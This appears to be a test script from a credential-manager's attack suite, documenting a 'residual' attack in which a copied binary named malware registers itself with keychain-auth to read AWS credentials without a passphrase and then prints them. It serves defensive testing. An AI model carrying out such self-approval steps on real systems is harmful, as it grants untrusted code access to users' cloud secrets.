#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# attack: without a passphrase: approves itself with the user's own command
# expects: released
# control: none
# kind: residual
# removed-by: passphrase (see sealed_*), system mode
# cost: -
#
# The approval stands in the record.
set -euo pipefail

cp "$ATTACK_VICTIM" "$HOME/malware"
keychain-auth register "$HOME/malware" --read aws >&2
"$HOME/malware" connect print
